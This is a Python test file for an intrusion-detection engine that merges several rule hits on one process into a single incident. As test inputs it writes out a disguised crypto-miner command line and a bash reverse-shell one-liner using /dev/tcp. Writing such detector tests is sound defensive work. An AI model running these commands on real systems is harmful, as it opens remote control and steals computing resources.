"""Several rule hits on one offender make one incident, as pure logic."""

from __future__ import annotations

from rome_guard.detect.engine import Engine
from rome_guard.detect.incidents import IncidentBook, kill_rule_finding, primary
from rome_guard.detect.rules import load_rules
from tests.detect.helpers import subject

WALLET = "4" + "8" * 94
MINER = ["./kworker", "-o", "stratum+tcp://10.9.9.9:3333", "-u", WALLET, "-a", "rx/0",
         "--donate-level=1"]  # fmt: skip


def findings_for(*argv: str, pid: int = 4242):
    return Engine(load_rules([])).evaluate(subject(*argv, pid=pid))


def test_one_miner_many_rules_is_one_incident() -> None:
    findings = findings_for(*MINER)
    assert len(findings) >= 3  # the storm this prevents
    filed = IncidentBook().file(findings, now=0.0)
    assert len(filed) == 1 and filed[0].opened
    incident = filed[0].incident
    assert sorted(incident.rule_ids) == sorted(f.rule.id for f in findings)
    assert incident.rule_ids[0] == primary(findings).rule.id


def test_later_rule_in_the_window_joins_and_repeats_are_dropped() -> None:
    book = IncidentBook(window_s=30)
    first, *rest = findings_for(*MINER)
    opened = book.file([first], now=0.0)[0]
    joined = book.file(rest + [first], now=10.0)
    assert len(joined) == 1 and not joined[0].opened
    assert joined[0].incident is opened.incident
    assert [f.rule.id for f in joined[0].findings] == [f.rule.id for f in rest]
    assert book.file([first], now=11.0) == []  # already listed: nothing new


def test_after_the_window_a_new_incident_opens() -> None:
    book = IncidentBook(window_s=30)
    first, second, *_ = findings_for(*MINER)
    book.file([first], now=0.0)
    later = book.file([second], now=31.0)
    assert len(later) == 1 and later[0].opened


def test_other_process_or_category_is_another_incident() -> None:
    book = IncidentBook()
    miner = findings_for(*MINER, pid=1)
    other = findings_for(*MINER, pid=2)
    shell = findings_for("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", pid=1)
    filed = book.file(miner + other + shell, now=0.0)
    assert len(filed) == 3 and all(f.opened for f in filed)
    assert {f.incident.category for f in filed} == {"miner", "reverse_shell"}


def test_the_kill_uses_the_widest_scope() -> None:
    shell = findings_for("bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
    chosen = kill_rule_finding(shell)
    assert chosen is not None and chosen.rule.kill_scope == "tree"
    assert kill_rule_finding([f for f in findings_for(*MINER) if f.rule.action != "kill"]) is None


def test_open_incidents_are_bounded() -> None:
    book = IncidentBook(window_s=1e9, limit=10)
    for pid in range(100):
        book.file(findings_for("/opt/x/xmrig", pid=pid), now=float(pid))
    assert len(book) == 10
